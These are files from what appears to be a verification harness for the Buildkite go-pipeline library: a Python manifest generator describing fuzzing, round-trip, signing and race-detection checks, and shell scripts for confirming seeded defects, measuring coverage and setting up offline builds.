         "exhaustive allow-list table monitor + generated key pairs cross-verification matrix + LoadKey over generated key-set files",
         "Validate is run on the complete table of key types (RSA, EC on three curves, OKP, oct; private and public) x every algorithm value the JOSE library registers (signature, key-encryption, content-encryption), unknown/empty/case-variant names and a missing algorithm, plus structurally invalid keys; generated pairs for the three approved algorithms must validate and verify only on the diagonal of the sign/verify matrix; LoadKey is driven with random key-set files (0-4 members, valid/invalid, unique/duplicate/missing ids) x requested ids and malformed inputs, identity decided by thumbprint. Pairs generated concurrently by the worker pool must all be distinct keys, verify under their own half and not under their neighbour's. Key-set files of up to 700 / 1500 members and of 300 KiB are loaded. The table is a complete enumeration.",
         "Trusts the JOSE library for signature verification itself and for key.Validate(); which member wins for duplicated ids is not asserted.",
         "DESIGN.md §2 C18"),
 "C03": ("exploration",
         "reference-model monitor: independent normaliser on the generator's tree vs JSON/YAML marshalling of the parsed pipeline read back with independent readers",
         "Grammar-generated pipeline documents (every step kind and shorthand, feature sweeps over all key/alias subsets, command/commands form pairs, plugin/matrix/cache forms, arbitrary extras of every YAML scalar kind, tricky strings, aliases and merges) are rendered as JSON and as YAML in random styles (renderer self-checked against yaml.v3's Node reader), parsed, marshalled to both formats, read back with encoding/json's token stream and yaml.Node, and compared with the normal form computed by an independently written normaliser; the key multiset of every mapping must match exactly, so dropped, duplicated, re-typed or moved data is detected. A scale phase checks documents of 300 to 20000 / 150000 steps (1.5 / 10 MiB). Held on the documents generated.",
         "Trusts the normaliser as the reading of the documented normal form (decisions where the model follows the code are listed in DESIGN.md), yaml.v3's parser for rendering self-checks, and the value equivalences of DESIGN.md §1.2; input classes K1, K3, K4 are excluded and replayed as known findings.",
         "DESIGN.md §2 C03"),
 "C08": ("exploration",
         "reference-model monitor: document key order (merge resolver for merged keys) vs key sequences of both marshallings at every order-preserving position; encode/decode round trips of programmatic maps",
         "Documents aimed at order-preserving positions (pipeline env, plugins as one mapping, mappings nested in extras/contents of every step kind and of the pipeline, unknown steps) with 0-300 keys of every key class, nesting and `<<` merges are parsed and marshalled; key sequences read back with independent readers must equal the generator's order. Programmatically built ordered maps must survive JSON and YAML encode/decode with ordered.Equal and tree equality. A depth phase places order-significant mappings 1-200 / 1-600 levels deep. Held on the executions observed.",
         "Order at Go-map-backed levels and inside plugin configs is deliberately not significant; K4 (key <<) is replayed as a known finding.",
         "DESIGN.md §2 C08"),
 "C09": ("exploration",
         "metamorphic monitor: parse -> marshal -> parse fixpoint compared on the object model through an independent reflective converter; repeated marshals compared bytewise",
         "For grammar-generated documents the JSON and the YAML marshalling of the parsed pipeline are re-parsed and the two object models compared structurally (dynamic step types, every exported field, ordered maps in order); every command step goes through CommandStep.UnmarshalJSON and every plugin list through Plugins.UnmarshalJSON; each pipeline is marshalled 6-10 times per format and the bytes compared (maps beyond 8 entries included). One third of the documents get a second round after the library's own interpolation changed the object that was marshalled before: marshalling is again byte-identical and both formats re-parse to the same pipeline. A scale phase round-trips documents whose normal form is several MiB. Held on the documents generated.",
         "Equivalences of DESIGN.md §1.2 (numbers by value, timestamp = RFC 3339 string, typed containers nil = empty, canonical plugin source spelling); K1-K4 replayed as known findings; F6 replayed as fixed.",
         "DESIGN.md §2 C09"),
 "C01": ("exploration",
         "metamorphic monitor: sign -> single-point mutation -> verify must fail whenever the harness's semantic form of the presented content changed; positive controls; payload channel cross-check",
         "Generated command steps are signed with each supported key kind; positive controls must verify (and Verify must rebuild exactly Sign's payload, read from the debug logger channel); every applicable mutation of a ~60-kind catalogue (command, step env, plugin sequence/sources/config leaves at depth, matrix, repository URL, verify-time env incl. shadowing, the signature record: algorithm, field list, spliced/truncated/bit-flipped value, replaced header; and the key) is presented and Verify must return an error whenever the independently computed semantic form differs or the record/key was altered. Field lists altered without changing their length are presented with exactly the signed environment. A quarter of the steps are signed as the last of three by SignSteps after siblings that shadow every pipeline variable. Held on the executions observed.",
         "Trusts the JOSE library's cryptography; semantic form is the harness's reading of the signed content; list re-ordering/duplication and ECDSA malleability are not single-point semantic changes; K1 replayed as known finding.",
         "DESIGN.md §2 C01"),
 "C02": ("exploration",
         "round-trip monitor: parse -> (interpolate) -> SignSteps -> marshal JSON/YAML -> re-parse (Parse and CommandStep.UnmarshalJSON) -> Verify every command step",
         "Grammar-generated documents covering every shorthand, nil vs empty containers, source spellings and scalar kinds are signed and serialised three times per format; both re-parse entry points must yield command steps at the same positions whose signatures verify under the public key with env = pipeline env plus unrelated variables; four key kinds. A depth sweep (1-80 / 1-400 levels) signs, serialises, re-parses and verifies documents whose output nests deeper than their input. Held on the documents generated.",
         "Trusts Verify's discrimination (decided by C01); YAML-leg exclusion of C02's text applied; documents with unknown steps must be refused by SignSteps.",
         "DESIGN.md §2 C02"),
 "C04": ("exploration",
         "reference-model monitor: generic reflective walker + interpolate library applied once per string on a twin, vs Pipeline.Interpolate; repeated runs compared for determinism",
         "Documents whose every string (keys and values, every position class incl. cache settings, adjustment skip, unknown steps, Go maps up to 40 entries with renamed keys, alias-shared subtrees) is built around reference snippets with unique ids are interpolated 12-60 times on fresh parses; the result must equal the twin converted by an independent reflective walker and mapped through the interpolate library exactly once per string (env block per the sequential fold), signatures untouched, all runs identical, failing expansions reported. X expands to another reference so a second pass is visible. A sequential phase interpolates documents without an environment (nil) and compares with the model under an empty one, so that state left behind by one call shows in the next. A depth phase places references 1-120 / 1-600 levels deep under sequences and under mappings with reference-bearing keys. Held on the executions observed.",
         "Trusts github.com/buildkite/interpolate for single strings; Go map iteration orders are sampled by repetition (and by the second toolchain in the thorough tier), not enumerated.",
         "DESIGN.md §2 C04"),
 "C06": ("exploration",
         "structural monitor: harness tree walk over generated step lists after SignSteps (signature presence, algorithm, exact field list, verification), twin comparison, refusal on unknown steps at every depth/position",
         "Programmatically built lists (all kinds, groups to depth 4, unknown steps placed at each depth and first/middle/last position with string/mapping/nil contents, TriggerStep by value and by pointer) and parsed lists are signed with four key kinds under nil/empty/disjoint/overlapping pipeline envs: success iff no unknown step; every command step at every depth has a verifying signature naming the key's algorithm with exactly the sorted field list; a deep twin shows nothing else changed; the env map is unchanged. Lists of 31 to 257 steps occur at the top level and inside groups.",
         "Verification uses the library's Verify (discrimination decided by C01).",
         "DESIGN.md §2 C06"),
 "C14": ("exploration",
         "metamorphic + partition monitor: payload bytes from the debug logger channel vs the harness's semantic form over families of must-collide and must-differ variants",
         "Around each generated (step, pipeline env, repository URL, key kind) a family of re-orderings/re-spellings that must give byte-identical payloads and of boundary-shifting / single-point variants that must give different payloads is signed; pairwise assertions plus a batch-wide monitor requiring the partition by payload hash to equal the partition by semantic form (tens of thousands of payloads per run). The payload of every step signed by SignSteps as one of five (list or group, shuffled) equals the payload of the same step signed alone.",
         "Semantic form is the harness's reading of the signed content (numbers by value, canonical plugin source, empty = nil); integers beyond 2^53 and K1 are out of scope as stated in DESIGN.md.",
         "DESIGN.md §2 C14"),
 "C07": ("exploration",
         "reference-model monitor: harness merge-rule resolver on generated anchor/alias/merge graphs vs DecodeYAML/Parse; yaml.v3's own decoder as second oracle; pointer-uniqueness monitor; cycle workloads with wall-clock recording",
         "Random anchor graphs (aliases as values and keys, canonicalising key spellings, merges in every form incl. repeated `<<` and merges through merges, up to 30 shared nodes, expansion up to 10^4 nodes) are rendered by the harness and decoded; the ordered result must equal the harness resolver's tree, agree with yaml.v3's decoder where that applies, and no two expansions may share a map or slice; graphs with back-edges must be rejected iff a value edge closes a cycle (merge-only cycles tolerated, mappings used as keys rejected), without panic, with per-case wall clock recorded; a dead process (stack overflow) is attributed through a journal by the driver. Held on the graphs generated.",
         "The resolver is written from the YAML merge specification and shares its structure with any correct implementation; yaml.v3's decoder is the independent cross-check on the subset it supports. Duplicate explicit keys and non-mapping merge values are outside the property.",
         "DESIGN.md §2 C07"),
 "C13": ("exploration",
         "hostile-input monitor: seeded mutational generator over a corpus of real pipelines + type-error injection into grammar documents (+ coverage-guided native fuzzing in the thorough tier) feeding panic / time / structure / fallback-reporting / marshallability monitors",
         "Every input (corpus, 1-4 seeded mutations per input, grammar documents with one node's kind swapped) is parsed under a panic guard with wall clock recorded; for usable results the monitors require non-nil Steps, no nil step, step counts equal to the input's step sequence obtained independently (yaml.Node + harness merge resolver, recursively in groups), unknown steps equal to the input entry verbatim, at least one reported cause per fallback, and successful JSON and YAML marshalling. Lists with up to 1200 fallbacks and documents of up to 20000 / 150000 steps are included. Held on the inputs generated; the thorough tier adds coverage-guided fuzzing bounded by execution count.",
         "Inputs above 64 KiB or 2*10^5 expansion nodes are dropped; K3/K5 failures are recognised by failure mode + trigger in the data and counted as known findings.",
         "DESIGN.md §2 C13"),
 "C16": ("exploration",
         "reference-model monitor: struct types built with reflect.StructOf from a harness-owned descriptor; expected key partition derived from the descriptor; yaml.v3's decoder as reference on the alias-free subset",
         "For thousands of generated target types (scalar/slice/map/any/nested/pointer fields, tagged/untagged/skipped/omitempty fields, alias lists, inline map / inline struct / inline pointer incl. nested catch-alls) and well-typed documents drawn from the same descriptor (fields addressed by primary, by one of several present aliases, absent, or null; alias next to primary; keys named like skipped fields; the empty key; extras), decoding into sentinel-pre-populated destinations must put every key in exactly one destination by the rule tag > first present alias > catch-all, leave absent fields untouched and zero null ones; for alias-free types and strictly typed documents the result equals yaml.v3's own decoder; two fixed members (ordered-map fields with typed values; self-decoding elements that may answer with a warning) are compared with yaml.v3 on plain-map twins / entry by entry. Keys of 30 to 130 characters are included. Held on the pairs generated.",
         "Ill-formed types (an alias equal to another field's key) and append-vs-replace semantics for pre-populated containers are outside the property; yaml.v3 comparison only on the subset yaml.v3 supports.",
         "DESIGN.md §2 C16"),
 "C19": ("exploration",
         "Go race detector (-race build) over barrier-released 16-goroutine workloads + sequential-vs-concurrent result comparison + deep before/after state monitor (hook slot layout, unexported fields included) + long-lived-process versus fresh-child-process comparison of whole life cycles (history independence)",
         "The monitor binary is built with -race; 16 goroutines run whole life cycles on disjoint documents (results compared with a sequential re-run) and hammer fresh, never-before-observed shared fixtures (an ordered map carrying tombstones, a parsed and signed pipeline, a key set, a private key with a shared step, a plugin) with every observer, results compared with those computed on an identically built twin; race reports are read from the detector's log files and any report with a go-pipeline frame is a violation; sequentially, deep state including unexported fields, the env map, the key set and the hook's slot layout is compared around every observer; finally the life cycle of generated and corpus documents at the end of the long-lived process is compared with the same life cycle in a fresh child process each (no hidden state carried from one call to the next). Cold-start child processes run their first Parse on 16 goroutines at once under the race detector. Every goroutine of the disjoint phase also builds and interpolates a pipeline whose env block comes from one shared read-only list of pairs. Held on the schedules the Go scheduler produced; the overlap achieved is recorded.",
         "The race detector only sees accesses that executed; randomised ECDSA/PSS signatures are compared by verification.",
         "DESIGN.md §2 C19"),
}

NOT_YET = {
}

def main():
    props = [json.loads(l) for l in open(os.path.join(HERE, "properties.jsonl"))]
    checks = []
    na = []
    for p in props:
        pid = p["id"]
        if pid in CHECKS:
            cat, tech, text, note, ref = CHECKS[pid]
            checks.append({
                "property_id": pid,
                "quick_cmd": f"./check {pid} quick",
                "thorough_cmd": f"./check {pid} thorough",
                "evidence_file": f"/verif/evidence/{pid}.json",
                "replay_cmd_template": f"./check {pid} quick --replay {{path}}",
                "engine": "gpv",
                "level_claimed": {"category": cat, "text": text, "design_ref": ref},
                "level_note": note,
                "technique": tech,
            })
        else:
            na.append({"property_id": pid, "reason": NOT_YET.get(pid, "monitor designed (DESIGN.md §2) but not built yet in this revision; no claim is made")})
    hooks_commits = os.popen("git -C /repo log --format=%H --grep='^verif hooks'").read().split()
    m = {
        "version": 1,
        "setup_cmd": "./setup.sh",
        "hooks": {
            "guard": "verif (Go build tag)",
            "enable": "go build -tags verif (the harness module replaces github.com/buildkite/go-pipeline with /repo, so every check rebuilds from /repo's working tree)",
            "baseline_off_cmd": "cd /repo && GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test -json -vet=off -count=1 -timeout 25m ./...",
            "source_commits": hooks_commits,
            "add_only": True,
        },
        "engines": [{
            "name": "gpv", "path": "/verif/harness/cmd/gpv",
            "serves_properties": sorted(CHECKS),
            "kind_free_text": "Go harness (module verif, replace => /repo) with one runtime monitor per property: generated/hostile workloads drive the real code, reference models and metamorphic oracles decide; C19 is built with -race",
        }],
        "checks": checks,
        "not_applicable": na,
        "notes": "All checks rebuild the harness against /repo's current working tree with -tags verif. Known findings and fixed defects: /verif/known_findings.json. Design: /verif/DESIGN.md.",
    }
    json.dump(m, open(os.path.join(HERE, "MANIFEST.json"), "w"), indent=1)
    print("wrote MANIFEST.json with", len(checks), "checks,", len(na), "not claimed")

main()
