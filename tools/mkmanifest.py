#!/usr/bin/env python3
"""Regenerates /verif/MANIFEST.json from the table below (run from /verif)."""
import json, os, sys

HERE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))

# id -> (category, technique, level text, level note, design ref)
CHECKS = {
 "C05": ("exploration",
         "reference-model history monitor + invariant hook (bounded-exhaustive BFS over slot layouts, long random histories)",
         "Every operation of the ordered map is applied from every slot layout reachable within a bounded history length (three keys, stale tombstone keys included) and in long random histories over 4/16/200 keys that cross the compaction threshold thousands of times; after every operation all observers (Len, IsZero, Get, Contains, Range incl. early exit and renaming callbacks, ToMap, ToMapRecursive, both encoders re-read with independent readers, Equal against an independently built twin, perturbed twins and a pool of reached states) are compared with a list-of-pairs model and the index/slot invariant hook is evaluated. Held on the executions observed; not a proof.",
         "Trusts the list-of-pairs model, encoding/json's token reader and yaml.v3's Node reader as independent readers; values are opaque to the map so layouts, not values, are enumerated.",
         "DESIGN.md §2 C05"),
}

NOT_YET = {
}

def main():
    props = [json.loads(l) for l in open(os.path.join(HERE, "properties.jsonl"))]
    checks = []
    na = []
    for p in props:
        pid = p["id"]
        if pid in CHECKS:
            cat, tech, text, note, ref = CHECKS[pid]
            checks.append({
                "property_id": pid,
                "quick_cmd": f"./check {pid} quick",
                "thorough_cmd": f"./check {pid} thorough",
                "evidence_file": f"/verif/evidence/{pid}.json",
                "replay_cmd_template": f"./check {pid} quick --replay {{path}}",
                "engine": "gpv",
                "level_claimed": {"category": cat, "text": text, "design_ref": ref},
                "level_note": note,
                "technique": tech,
            })
        else:
            na.append({"property_id": pid, "reason": NOT_YET.get(pid, "monitor designed (DESIGN.md §2) but not built yet in this revision; no claim is made")})
    hooks_commits = os.popen("git -C /repo log --format=%H --grep='^verif hooks'").read().split()
    m = {
        "version": 1,
        "setup_cmd": "./setup.sh",
        "hooks": {
            "guard": "verif (Go build tag)",
            "enable": "go build -tags verif (the harness module replaces github.com/buildkite/go-pipeline with /repo, so every check rebuilds from /repo's working tree)",
            "baseline_off_cmd": "cd /repo && GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go test -json -vet=off -count=1 -timeout 25m ./...",
            "source_commits": hooks_commits,
            "add_only": True,
        },
        "engines": [{
            "name": "gpv", "path": "/verif/harness/cmd/gpv",
            "serves_properties": sorted(CHECKS),
            "kind_free_text": "Go harness (module verif, replace => /repo) with one runtime monitor per property: generated/hostile workloads drive the real code, reference models and metamorphic oracles decide; C19 is built with -race",
        }],
        "checks": checks,
        "not_applicable": na,
        "notes": "All checks rebuild the harness against /repo's current working tree with -tags verif. Known findings and fixed defects: /verif/known_findings.json. Design: /verif/DESIGN.md.",
    }
    json.dump(m, open(os.path.join(HERE, "MANIFEST.json"), "w"), indent=1)
    print("wrote MANIFEST.json with", len(checks), "checks,", len(na), "not claimed")

main()
