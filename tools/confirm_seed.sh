#!/bin/bash
# usage: tools/confirm_seed.sh <worktree> <seed-name> <ID> [more IDs...]
# Confirms a seeded change delivered in <worktree> (patch.diff, zz_demo* file, meta.json):
#  (a) the unedited suite passes with the change (demo moved aside), (b) the demo fails with the
#  change, (c) the demo passes without it; then applies the patch to /repo, runs the named checks,
#  undoes the patch, and stores everything under /verif/seeded/<seed-name>/.
set -u
WT="$1"; NAME="$2"; shift 2
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
OUT=/verif/seeded/$NAME
mkdir -p "$OUT"
cd "$WT" || exit 9
DEMO=$(git status --short | grep -o '[^ ]*zz_demo[^ ]*' | head -1)
[ -n "$DEMO" ] || { echo "no demo file"; exit 9; }
PKG="./$(dirname "$DEMO")"
DEMOCMD=$(python3 -c 'import json,sys; print(json.load(open("meta.json")).get("demo_command",""))' 2>/dev/null)
echo "demo: $DEMO pkg: $PKG"
# fresh scratch worktree to confirm from the patch alone
SCR=/tmp/confirm-$NAME
rm -rf "$SCR"; git -C /repo worktree add -q --detach "$SCR" HEAD || exit 9
cp "$WT/patch.diff" "$OUT/patch.diff"
( cd "$SCR" && git apply "$OUT/patch.diff" ) || { echo "patch does not apply to /repo HEAD"; git -C /repo worktree remove --force "$SCR"; exit 9; }
( cd "$SCR" && go build ./... && go test -vet=off -count=1 ./... > "$OUT/suite_with_change.txt" 2>&1 ); A=$?
mkdir -p "$SCR/$(dirname "$DEMO")"; cp "$WT/$DEMO" "$SCR/$DEMO"
( cd "$SCR" && go test -vet=off -count=1 -run 'ZZ|zz|Demo|demo' ${RACEFLAG:-} "$PKG" > "$OUT/demo_with_change.txt" 2>&1 ); B=$?
( cd "$SCR" && git apply -R "$OUT/patch.diff" && go test -vet=off -count=1 -run 'ZZ|zz|Demo|demo' ${RACEFLAG:-} "$PKG" > "$OUT/demo_without_change.txt" 2>&1 ); C=$?
git -C /repo worktree remove --force "$SCR"
echo "suite with change rc=$A (want 0); demo with change rc=$B (want !=0); demo without change rc=$C (want 0)"
cp "$WT/$DEMO" "$OUT/$(basename "$DEMO")"
CONF=no; if [ $A -eq 0 ] && [ $B -ne 0 ] && [ $C -eq 0 ]; then CONF=yes; fi
# run checks against a scratch worktree of /repo HEAD with the patch applied (GPV_REPO override; /repo itself stays untouched)
RES=""
SCR2=/tmp/seedrun-$NAME
rm -rf "$SCR2"; git -C /repo worktree add -q --detach "$SCR2" HEAD || exit 9
( cd "$SCR2" && git apply "$OUT/patch.diff" ) || { echo "cannot apply"; git -C /repo worktree remove --force "$SCR2"; exit 9; }
for ID in "$@"; do
  cd /verif && GPV_REPO="$SCR2" ./check "$ID" quick > "$OUT/check_$ID.txt" 2>&1; RC=$?
  RES="$RES $ID:rc=$RC"
  echo "check $ID rc=$RC: $(grep -c '^VIOLATION' "$OUT/check_$ID.txt") violation lines; $(grep '^  case' "$OUT/check_$ID.txt" | head -1 | cut -c1-260)"
done
git -C /repo worktree remove --force "$SCR2"
python3 - "$WT/meta.json" "$OUT/meta.json" "$CONF" "$RES" "$A" "$B" "$C" <<'PY'
import json,sys
try: m=json.load(open(sys.argv[1]))
except Exception as e: m={"note":"agent meta.json unreadable: %s"%e}
m["confirmed_by_me"]=sys.argv[3]
m["confirmation"]={"suite_with_change_rc":int(sys.argv[5]),"demo_with_change_rc":int(sys.argv[6]),"demo_without_change_rc":int(sys.argv[7]),
  "how":"fresh worktree of /repo HEAD + patch.diff: go test -vet=off -count=1 ./... ; demo copied in: go test -run demo pkg; patch reverted: demo again"}
m["checks_run_against_it"]=sys.argv[4].strip()
json.dump(m,open(sys.argv[2],"w"),indent=1)
PY
echo "confirmed=$CONF results:$RES"
