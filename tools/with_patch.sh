#!/bin/bash
# usage: tools/with_patch.sh <patch-file|-R:commit> <ID> [tier]   -- applies a change to /repo, runs the check, reverts.
set -u
P="$1"; ID="$2"; TIER="${3:-quick}"
cd /repo
if [[ "$P" == -R:* ]]; then
  C="${P#-R:}"
  git diff "$C~1" "$C" | git apply -R || { echo "cannot revert $C"; exit 9; }
else
  git apply "$P" || { echo "cannot apply $P"; exit 9; }
fi
cd /verif
./check "$ID" "$TIER" 2>&1 | grep -v '^  case' | head -${LINES_MAX:-8}
RC=${PIPESTATUS[0]}
git -C /repo checkout -- . 
git -C /repo status --short | head -3
exit $RC
