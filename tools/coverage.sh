#!/bin/bash
# usage: tools/coverage.sh [outdir]   (default /tmp/gpvcov)
# Reach evidence: builds the monitor binary with statement-coverage instrumentation of the library (the harness
# is copied into a scratch copy of /repo's working tree so that the library is the main module), runs every quick
# check once and lists the library functions the monitors executed only partly or not at all. It says what the
# workloads drive, not what the oracles decide. The scratch copy is removed afterwards.
set -u
OUT="${1:-/tmp/gpvcov}"
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local GPV_VERIF_DIR=/verif
rm -rf "$OUT"; mkdir -p "$OUT/data" "$OUT/src"
rsync -a --exclude .git /repo/ "$OUT/src/"
mkdir -p "$OUT/src/zzverif"
rsync -a --exclude go.mod --exclude go.sum /verif/harness/ "$OUT/src/zzverif/"
find "$OUT/src/zzverif" -name '*.go' -print0 | xargs -0 sed -i 's#"verif/#"github.com/buildkite/go-pipeline/zzverif/#'
cd "$OUT/src" || exit 3
go build -tags verif -cover -o "$OUT/gpv.cov" ./zzverif/cmd/gpv || exit 3
for id in C01 C02 C03 C04 C05 C06 C07 C08 C09 C10 C11 C12 C13 C14 C15 C16 C17 C18 C19; do
  mkdir -p "$OUT/data/$id"
  GOCOVERDIR="$OUT/data/$id" "$OUT/gpv.cov" "$id" -tier quick -seed 1 -evidence "$OUT/ev-$id.json" -replays "$OUT/replays" -known /verif/known_findings.json 2>&1 | grep -a "quick seed"
done
DIRS=$(ls -d "$OUT"/data/C* | paste -sd,)
go tool covdata func -i="$DIRS" 2>&1 | grep -v "/zzverif/" > "$OUT/func.txt"
echo "--- library functions below 100 % statement coverage (all quick checks merged):"
grep -v "100.0%" "$OUT/func.txt" | grep -v "verif_hooks" | awk '{print $NF, $1, $2}' | sort -n | head -150
go tool covdata percent -i="$DIRS" 2>&1 | grep -v zzverif
go tool covdata textfmt -i="$DIRS" -o "$OUT/profile.txt"
python3 - "$OUT/profile.txt" "$OUT/src" > "$OUT/uncovered.txt" <<'PY'
import sys,re,collections
prof,src=sys.argv[1],sys.argv[2]
blocks=collections.defaultdict(int)
for l in open(prof):
    if l.startswith("mode:") or "/zzverif/" in l: continue
    m=re.match(r"(.*):(\d+)\.(\d+),(\d+)\.(\d+) (\d+) (\d+)",l)
    if not m: continue
    f,l0,c0,l1,c1,n,cnt=m.groups()
    blocks[(f,int(l0),int(l1))]+=int(cnt)
for (f,l0,l1),cnt in sorted(blocks.items()):
    if cnt: continue
    rel=f.replace("github.com/buildkite/go-pipeline/","")
    if "verif_hooks" in rel: continue
    try: lines=open(src+"/"+rel).read().split("\n")
    except Exception: continue
    print(f"{rel}:{l0}-{l1}: "+" | ".join(x.strip() for x in lines[l0-1:min(l1,l0+2)]))
PY
echo "uncovered blocks: $(wc -l < "$OUT/uncovered.txt") (list in $OUT/uncovered.txt)"
rm -rf "$OUT/gpv.cov" "$OUT/src"
