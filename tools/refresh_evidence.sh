#!/bin/bash
# Re-runs every quick check on /repo's current tree (must be clean) so that the committed evidence
# files are records of clean runs; validates manifest and evidence.
cd /verif
if [ -n "$(git -C /repo status --short)" ]; then echo "/repo has uncommitted changes"; exit 2; fi
FAIL=0
for id in C01 C02 C03 C04 C05 C06 C07 C08 C09 C10 C11 C12 C13 C14 C15 C16 C17 C18 C19; do
  OUT=$(VERIF_SEED=${VERIF_SEED:-1} ./check $id ${1:-quick} 2>&1); RC=$?
  echo "$OUT" | grep -v "^KNOWN-FINDING" | tail -1
  if [ $RC -ne 0 ] || echo "$OUT" | grep -q "^VIOLATION"; then echo "!! $id rc=$RC"; FAIL=1; fi
done
python3 tools/mkmanifest.py >/dev/null
python3-vt tools/validate.py | grep -v "^valid" 
exit $FAIL
