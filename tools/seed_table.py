#!/usr/bin/env python3
"""Prints DESIGN.md table rows for the seeded changes whose directory name ends with the given suffixes
(e.g. tools/seed_table.py -e -f), from seeded/<name>/meta.json."""
import json, glob, sys, os
suf = tuple(sys.argv[1:]) or ("",)
def cell(s, n):
    s = " ".join(str(s).split()).replace("|", "\\|")
    return s[:n]
for d in sorted(glob.glob("/verif/seeded/*")):
    name = os.path.basename(d)
    if not name.endswith(suf):
        continue
    m = json.load(open(d + "/meta.json"))
    print(f"| {name} | {cell(m.get('summary',''),260)} | {cell(m.get('what_it_needs_to_manifest',''),220)} | {m.get('checks_run_against_it','')} |")
