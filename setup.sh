#!/bin/bash
# Offline setup: warms the Go build cache for the harness (plain and -race builds).
set -e
cd "$(dirname "$0")"
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
mkdir -p .build evidence
cd harness
cp /repo/go.sum go.sum
go build -tags verif -o ../.build/gpv.setup ./cmd/gpv
go build -race -tags verif -o ../.build/gpv.setup.race ./cmd/gpv
rm -f ../.build/gpv.setup ../.build/gpv.setup.race
echo "setup ok"
